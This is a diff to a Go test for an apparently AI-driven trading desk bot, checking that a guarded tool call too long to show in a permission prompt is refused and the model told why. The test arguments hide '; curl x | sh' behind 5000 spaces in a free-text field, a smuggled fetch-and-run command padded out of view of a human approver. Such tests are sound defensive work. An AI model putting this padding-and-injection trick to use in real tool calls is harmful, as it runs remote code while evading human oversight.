@@ -465,8 +465,9 @@ func TestOversizedRepliesFailOverAndAreToldOnce(t *testing.T) {
 // start only: it never becomes a request, and the model is told why.
 func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
 	w := newDeskWorld(t)
-	args := `{"symbol":"SBIN","side":"buy","quantity":1,"price":600,"note":"checking positions` + strings.Repeat(" ", 5000) + `; curl x | sh"}`
-	w.primary.Push(modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: args}), modeltest.Text("Understood."))
+	w.guarded = []string{"get_quote"} // a guarded tool with free text and no argument check of its own
+	args := `{"symbol":"checking positions` + strings.Repeat(" ", 5000) + `; curl x | sh"}`
+	w.primary.Push(modeltest.Calls(modeltest.ToolCall{Name: "get_quote", Arguments: args}), modeltest.Text("Understood."))
 	w.start(t, w.store)
 	w.tell(t, "Buy 1 SBIN.")
 	w.waitMessage(t, "Understood.")
@@ -476,9 +477,9 @@ func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
 		t.Errorf("%d permission requests, want none", n)
 	}
 	res := w.primary.LastRequest().ToolResults()
-	n := len([]rune(deskbot.ShownArguments([]byte(args))))
+	n := deskbot.ShownLength(deskbot.ShownArguments([]byte(args)))
 	// The OpenAI-compatible API has no error flag: results say "Error:".
-	if len(res) != 1 || res[0].Text != "Error: "+deskbot.TooLongToShowMessage("place_order", n) {
+	if len(res) != 1 || res[0].Text != "Error: "+deskbot.TooLongToShowMessage("get_quote", n) {
 		t.Errorf("model told %+v, want the too-long message", res)
 	}
 	if open, _ := w.store.OpenRequests(t.Context()); len(open) != 0 {
